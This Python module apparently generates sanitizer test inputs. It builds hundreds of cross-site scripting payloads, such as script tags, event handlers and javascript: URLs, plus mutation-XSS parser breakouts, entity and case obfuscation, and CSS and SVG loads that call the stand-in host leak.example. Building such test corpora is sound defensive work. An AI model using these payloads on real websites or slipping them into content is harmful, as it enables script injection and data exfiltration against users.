"""Markup that means harm, in many forms: what acts, where it hides, and how it is spelt.

Whatever of it runs calls `run(N)`, and whatever of it loads asks the host `leak.example` for `/N`.
"""

import random
import re
from collections.abc import Callable, Iterator, Sequence
from itertools import product

HOST = "leak.example"

_ACTS = (
    "<script>run(N)</script>",
    "<script src=//leak.example/N></script>",
    "<script src=data:,run(N)></script>",
    "<script type=module>run(N)</script>",
    "<img src=x onerror=run(N)>",
    '<img src="x" alt="" onerror="run(N)" />',
    "<svg onload=run(N)>",
    "<svg><script>run(N)</script></svg>",
    "<svg><script href=data:,run(N) /></svg>",
    "<svg><animate onbegin=run(N) attributeName=x dur=1s /></svg>",
    "<svg><set attributeName=onclick to=run(N)></svg>",
    "<svg><a><animate attributeName=href values=javascript:run(N) /><text y=9>x</text></a></svg>",
    "<svg><use href=https://leak.example/N#a /></svg>",
    "<svg><image href=x onerror=run(N)></svg>",
    "<svg><foreignObject><iframe src=https://leak.example/N></iframe></foreignObject></svg>",
    "<svg><rect fill='url(https://leak.example/N#a)' width=9 height=9 /></svg>",
    "<math><mtext><img src=x onerror=run(N)></mtext></math>",
    "<math href=javascript:run(N)>x</math>",
    "<math><maction actiontype=statusline#x xlink:href=javascript:run(N)>x</maction></math>",
    "<body onload=run(N)>",
    "<html onmouseover=run(N)>",
    "<details open ontoggle=run(N)>",
    "<input autofocus onfocus=run(N)>",
    "<video><source onerror=run(N)></video>",
    "<video src=x onerror=run(N)></video>",
    "<audio src=x onerror=run(N)></audio>",
    "<marquee onstart=run(N)>x</marquee>",
    "<p style=animation-name:x onanimationstart=run(N)>x</p>",
    "<p style=background:url(https://leak.example/N)>x</p>",
    "<iframe src=javascript:parent.run(N)></iframe>",
    "<iframe srcdoc='<script>parent.run(N)</script>'></iframe>",
    "<iframe src=https://leak.example/N></iframe>",
    "<iframe src=/\\leak.example/N></iframe>",
    "<iframe src='/\t/leak.example/N'></iframe>",
    "<object data=https://leak.example/N></object>",
    "<object data=javascript:run(N)></object>",
    "<embed src=https://leak.example/N>",
    "<applet code=x codebase=https://leak.example/N></applet>",
    "<portal src=https://leak.example/N></portal>",
    "<frameset onload=run(N)><frame src=https://leak.example/N></frameset>",
    "<link rel=stylesheet href=https://leak.example/N>",
    "<link rel=preload as=image href=https://leak.example/N>",
    "<link rel=prefetch href=https://leak.example/N>",
    "<style>@import 'https://leak.example/N';</style>",
    "<style>*{background:url(https://leak.example/N)}</style>",
    "<base href=https://leak.example/N>",
    "<meta http-equiv=refresh content='0;url=https://leak.example/N'>",
    "<meta http-equiv=refresh content='0;url=javascript:run(N)'>",
    "<form action=javascript:run(N)><button>x</button></form>",
    "<button formaction=javascript:run(N)>x</button>",
    "<form id=f action=https://leak.example/N></form><input form=f type=submit autofocus>",
    "<isindex type=image src=x onerror=run(N)>",
    "<template shadowrootmode=open><script>run(N)</script></template>",
    "<a href=javascript:run(N)>x</a>",
    "<a href='jav&#x09;ascript:run(N)'>x</a>",
    "<a href='&#1;javascript:run(N)'>x</a>",
    "<a href=javascript&colon;run(N)>x</a>",
    "<a href=data:text/html,<script>run(N)</script>>x</a>",
    "<a href=https://example.com/ ping=https://leak.example/N>x</a>",
    "<area href=vbscript:run(N)>",
    "<table background=https://leak.example/N><tr><td background=https://leak.example/N>x</table>",
    "<img src=x:x onerror=run(N)//>",
    "<x-y onclick=run(N) tabindex=1 autofocus onfocus=run(N)>x</x-y>",
    "<image src=x onerror=run(N)>",
    "<input type=image src=x onerror=run(N)>",
    "<keygen autofocus onfocus=run(N)>",
    "<select autofocus onfocus=run(N)><option>x</select>",
    "<textarea autofocus onfocus=run(N)>x</textarea>",
    "<noscript><img src=x onerror=run(N)></noscript>",
)
"""What acts by itself, or when it is clicked."""

_RAW = ("textarea", "title", "xmp", "noembed", "noframes", "noscript", "iframe", "style", "script")
_HIDES = (
    "X",
    "<!-->X-->",
    "<!--->X-->",
    "<!--a--!>X-->",
    "<!-- --!><!-- >X-->",
    "<!--<!-->X-->",
    "<![CDATA[>X]]>",
    "<?x >X?>",
    "<!x>X",
    "</ x>X",
    "</>X",
    "<p title='a>' X",
    '<p title="X">a</p>',
    "<p title='X'>a</p>",
    "<p title=`X`>a</p>",
    '<p title="a"X>a</p>',
    '<img alt="<x" title="/>X">',
    "<img alt='`' title='`>X'>",
    "<b <i>X",
    "<div/X",
    *(f'<{name}><p title="</{name}>X">a</p></{name}>' for name in _RAW),
    *(f"<{name}></{name} a='>'>X" for name in _RAW),
    *(f"<svg><{name}>X</{name}></svg>" for name in _RAW),
    *(f"<math><{name}>X</{name}></math>" for name in _RAW),
    *(f"<svg><{name}><!--</{name}>X--></{name}></svg>" for name in _RAW),
    *(f'<svg><{name}><a title="</{name}>X"></a></{name}></svg>' for name in _RAW),
    *(f"<math><mtext><table><mglyph><{name}><!--</{name}>X--></mglyph>" for name in _RAW),
    "<plaintext>X",
    "<svg><p>X",
    "<svg></p><style><a id='</style>X'></a></style>",
    "<svg><desc><table><style><!--</style>X--></desc></svg>",
    "<svg><title><style><!--</style>X--></style></title></svg>",
    "<svg><![CDATA[X]]></svg>",
    "<svg><![CDATA[</svg>X]]></svg>",
    "<math><![CDATA[<!--]]>X--></math>",
    "<math><mi><!--</mi>X--></math>",
    "<math><annotation-xml encoding=text/html><style><!--</style>X--></annotation-xml></math>",
    "<math><annotation-xml encoding='text/xml'><div>X</div></annotation-xml></math>",
    "<math><mtext><mglyph><svg><mtext><style><a title='</style>X'>",
    "<form><math><mtext></form><form><mglyph><style></math>X",
    "<svg><foreignObject><math><mi></foreignObject><style><!--</style>X-->",
    "<svg><font color=x>X",
    "<math><br>X",
    "<table>X<tr><td>a</table>",
    "<table><caption>X<tr>X</table>",
    "<table><tr><td><svg><desc><td>X</table>",
    "<select><svg><style>X</style></svg></select>",
    "<select><iframe>X</iframe></select>",
    "<select><template>X</template></select>",
    "<template>X</template>",
    "<template><template>X</template></template>",
    "<a><table><a>X</a></table></a>",
    "<b><p><i></b>X</i></p>",
    "<p><svg></p>X</svg>",
    "<ruby><rtc>X</rtc></ruby>",
    "<details><summary>X</summary>X</details>",
    "<picture><source>X</picture>",
    "<button><button>X</button></button>",
    "<nobr><nobr>X",
    "<li><ul>X</ul>",
    f"{'<div>' * 520}X",
    f"{'<b>' * 260}<svg>{'<g>' * 260}<style><!--</style>X-->",
    f"{'<i><p>' * 200}X",
    f"<math>{'<mrow>' * 510}<mtext><style><a title='</style>X'>",
    "&lt;X&gt;",
    "&#2;amp&#3;lt;X",
    "\x02amp\x03X",
    "a\n\nX\n\nb",
    "a X b",
    "- X\n- b",
    "> X",
    "# X",
    "[X](a.md)",
    "[a](b.md 'X')",
    '![X](a.png "X")',
    "| a | b |\n| --- | --- |\n| X | c |",
    "<div markdown=1>\nX\n</div>",
    "<div markdown=span title='X'>X</div>",
    "a[^1]\n\n[^1]: X",
    "*[HTML]: X\n\nHTML",
    "`X`",
    "```\nX\n```",
    "```html title='X'\nX\n```",
    "    X",
    "<pre>X</pre>",
    "<code>X</code>",
    "!!! note 'X'\n    X",
    "??? note 'X'\n    X",
    '=== "X"\n    X',
    "- [ ] X",
    "a {: title='X' }",
    "**a**{: X }",
    "# a {: X }",
    "[a](b.md){: X }",
    "a\n{: X }",
    "==X== ~~X~~ ^^X^^ ++X++",
    "&amp;lt;X \\<X",
    "X" * 3,
)
"""Where an act hides: `X` stands for it."""


def _plain(text: str, _: random.Random) -> str:
    return text


def _cased(text: str, dice: random.Random) -> str:
    def changed(tag: re.Match[str]) -> str:
        return "".join(dice.choice([letter.upper(), letter]) for letter in tag[0])

    return re.sub(r"</?[a-z]+|\bon[a-z]+(?==)|\bjavascript(?=:)", changed, text)


def _spaced(text: str, dice: random.Random) -> str:
    return re.sub(" ", lambda _: dice.choice("/\t\f\n ") + dice.choice(["", " "]), text)


def _broken(text: str, dice: random.Random) -> str:
    at = dice.randrange(len(text) + 1)
    return (
        text[:at] + dice.choice(["\x00", "\n", "\t", "&#0;", "\ufffd", "<", ">", '"']) + text[at:]
    )


def _cut(text: str, dice: random.Random) -> str:
    return text[: dice.randrange(len(text) // 2, len(text))]


def _encoded(text: str, dice: random.Random) -> str:
    forms = ("&#{};", "&#{}", "&#x{:x};", "&#X0000{:x};", "&#0000{}")

    def changed(value: re.Match[str]) -> str:
        return "=" + "".join(
            dice.choice(forms).format(ord(letter)) if dice.random() < 0.3 else letter
            for letter in value[1]
        )

    return re.sub(r"=([a-z:/.]+(?=[^>]*>))", changed, text)


_SPELT: Sequence[Callable[[str, random.Random], str]] = (
    *(_plain, _plain, _cased, _spaced, _broken, _cut, _encoded),
)


def bodies(number: int, *, seed: int = 0) -> Iterator[str]:
    """Yield as many bodies in Markdown; each act in each place first, then spelt otherwise.

    `N` in them is the body's number.
    """
    dice = random.Random(seed)  # noqa: S311 - the same seed gives the same payloads
    pairs = [*product(_HIDES, _ACTS)]
    dice.shuffle(pairs)
    for at in range(number):
        hides, acts = pairs[at % len(pairs)]
        spell = _plain if at < len(_ACTS) else dice.choice(_SPELT)
        if at < len(_ACTS):
            hides, acts = "X", _ACTS[at]
        written = spell(hides.replace("X", acts), dice)
        if dice.random() < 0.2:
            written = dice.choice(_HIDES).replace("X", written)
        yield written.replace("N", str(at))


_IN_CSS = (
    "fill: url(https://leak.example/N#a)",
    "fill: u\\72l(https://leak.example/N#a)",
    "fill: url( 'https://leak.example/N#a' )",
    'fill: URL("//leak.example/N#a")',
    "background: url(/\\leak.example/N)",
    "background-image: image-set('https://leak.example/N' 1x)",
    "background-image: image-set(url(https://leak.example/N) 1x)",
    "background-image: -webkit-image-set(url(https://leak.example/N) 1x)",
    "background-image: cross-fade(url(https://leak.example/N), red)",
    "background-image: -webkit-cross-fade(url(https://leak.example/N), url(a), 50%)",
    "background-image: image('https://leak.example/N')",
    "background-image: src('https://leak.example/N')",
    "--a: url(https://leak.example/N); background: var(--a)",
    "--a: 'https://leak.example/N'; background: image-set(var(--a) 1x)",
    "mask: url(https://leak.example/N#a)",
    "-webkit-mask-image: url(https://leak.example/N)",
    "filter: url(https://leak.example/N#a)",
    "clip-path: url(https://leak.example/N#a)",
    "cursor: url(https://leak.example/N), auto",
    "content: url(https://leak.example/N)",
    "list-style-image: url(https://leak.example/N)",
    "border-image-source: url(https://leak.example/N)",
    "marker-start: url(https://leak.example/N#a)",
    "shape-outside: url(https://leak.example/N)",
    "offset-path: url(https://leak.example/N#a)",
    "background: url(https://leak.example/N",
    "background: url(a)/**/,url(https://leak.example/N)",
    "background: \\75\\72\\6c(https://leak.example/N)",
    "behavior: url(https://leak.example/N)",
    "-moz-binding: url(https://leak.example/N#a)",
)
_SHEETS = (
    "@import 'https://leak.example/N';",
    "@import url(https://leak.example/N);",
    "@\\69mport 'https://leak.example/N';",
    "@IMPORT/**/'https://leak.example/N';",
    "<a xmlns='http://www.w3.org/2000/svg'/>@import 'https://leak.example/N';",
    "<![CDATA[@import 'https://leak.example/N';]]>",
    "<!-- -->@import 'https://leak.example/N';",
    "@charset 'x'; @import 'https://leak.example/N' layer(a) supports(b: c);",
    "a{} @import 'https://leak.example/N';",
    "@media all { @import 'https://leak.example/N'; }",
    "@font-face{font-family:N;src:url(https://leak.example/N)}text{font-family:N}",
    "@font-face{font-family:N;src:local(x),url('https://leak.example/N')}text{font-family:N}",
    "@namespace x url(https://leak.example/N);",
    "@property --a{syntax:'*';inherits:true;initial-value:url(https://leak.example/N)}",
    "@media all{*{CSS}}",
    "@supports (a:b) or (color:red){*{CSS}}",
    "@keyframes a{from{CSS}to{CSS}}*{animation:a 9s}",
    "@layer a{*{CSS}}",
    "*{CSS}",
    "*{color:red;&amp;{CSS}}",
    "*{}}*{CSS}",
    "*{color:'\n;CSS}",
    '*{color:"\\"};CSS}',
    "*{CSS}/*",
    "*{CSS",
)
_IN_SVG = (
    "<script>run(N)</script>",
    "<script xlink:href='https://leak.example/N'/>",
    "<script href='data:,run(N)'/>",
    "<h:script>run(N)</h:script>",
    "<h:iframe src='https://leak.example/N'/>",
    "<h:img src='https://leak.example/N'/>",
    "<h:img src='x' onerror='run(N)'/>",
    "<h:link rel='stylesheet' href='https://leak.example/N'/>",
    "<h:meta http-equiv='refresh' content='0;url=https://leak.example/N'/>",
    "<h:base href='https://leak.example/N'/>",
    "<h:video src='https://leak.example/N' autoplay=''/>",
    "<h:object data='https://leak.example/N'/>",
    "<h:embed src='https://leak.example/N'/>",
    "<h:input type='image' src='https://leak.example/N'/>",
    "<h:body background='https://leak.example/N'/>",
    "<h:table background='https://leak.example/N'/>",
    "<h:style>@import 'https://leak.example/N';</h:style>",
    "<h:div style='CSS'>a</h:div>",
    "<h:a href='javascript:run(N)'>a</h:a>",
    "<image href='https://leak.example/N'/>",
    "<image xlink:href='//leak.example/N'/>",
    "<image href='x' onerror='run(N)'/>",
    "<feImage href='https://leak.example/N'/>",
    "<filter id='fN'><feImage href='https://leak.example/N'/></filter><g filter='url(#fN)'/>",
    "<use href='https://leak.example/N#a'/>",
    "<use xlink:href='data:image/svg+xml,&lt;svg id=&quot;a&quot; onload=&quot;run(N)&quot;/>#a'/>",
    "<linearGradient href='https://leak.example/N#a'/>",
    "<pattern xlink:href='https://leak.example/N#a'/>",
    "<textPath href='https://leak.example/N#a'>a</textPath>",
    "<mpath href='https://leak.example/N#a'/>",
    "<animate attributeName='href' values='https://leak.example/N'/>",
    "<image><set attributeName='href' to='https://leak.example/N'/></image>",
    "<image><animate attributeName='xlink:href' from='https://leak.example/N' to='b'/></image>",
    "<rect width='9' height='9'><set attributeName='fill' to='url(https://leak.example/N#a)'/></rect>",
    "<rect width='9' height='9'><set attributeName='style' to='CSS'/></rect>",
    "<g><set attributeName='onclick' to='run(N)'/></g>",
    "<animate onbegin='run(N)' attributeName='x' dur='1s'/>",
    "<g onload='run(N)'/>",
    "<rect width='9' height='9' style='CSS'/>",
    "<rect width='9' height='9' fill='url(https://leak.example/N#a)'/>",
    "<rect width='9' height='9' mask='u\\72l(https://leak.example/N#a)'/>",
    "<rect width='9' height='9' filter='url(https://leak.example/N#a)'/>",
    "<text cursor='url(https://leak.example/N), auto'>a</text>",
    "<font-face-src><font-face-uri xlink:href='https://leak.example/N'/></font-face-src>",
    "<a href='javascript:run(N)'><text y='9'>a</text></a>",
    "<a xlink:href='java&#9;script:run(N)'><text y='9'>a</text></a>",
    "<handler type='text/javascript'>run(N)</handler>",
    "<foreignObject><h:iframe srcdoc='&lt;script>parent.run(N)&lt;/script>'/></foreignObject>",
    "<style>SHEET</style>",
    "<h:style>SHEET</h:style>",
    "<style type='text/css' media='all'>SHEET</style>",
)


def drawings() -> Iterator[str]:
    """Yield what may stand in an SVG and should do nothing; `N` is replaced as in `bodies`."""
    number = 0
    for form in _IN_SVG:
        sheets = _SHEETS if "SHEET" in form else ("",)
        for sheet in sheets:
            whole = form.replace("SHEET", sheet)
            for css in _IN_CSS if "CSS" in whole else ("",):
                quoted = css.replace("'", "&apos;") if "='CSS'" in whole else css
                yield whole.replace("CSS", quoted).replace("N", str(number))
                number += 1
